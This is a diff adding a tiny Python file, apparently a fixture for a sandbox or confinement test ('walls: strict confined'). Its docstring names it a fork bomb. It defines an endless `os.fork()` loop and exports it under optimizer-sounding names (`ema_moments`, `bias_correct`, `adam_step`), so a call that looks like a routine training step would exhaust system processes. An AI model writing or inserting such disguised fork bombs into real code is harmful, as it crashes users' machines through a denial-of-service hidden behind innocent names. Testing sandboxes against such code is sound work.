@@ -1,0 +1,15 @@
+"""A fork bomb."""
+# walls: strict confined
+
+import os
+
+
+def ema_moments(*args):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            return None
+
+
+bias_correct = adam_step = ema_moments
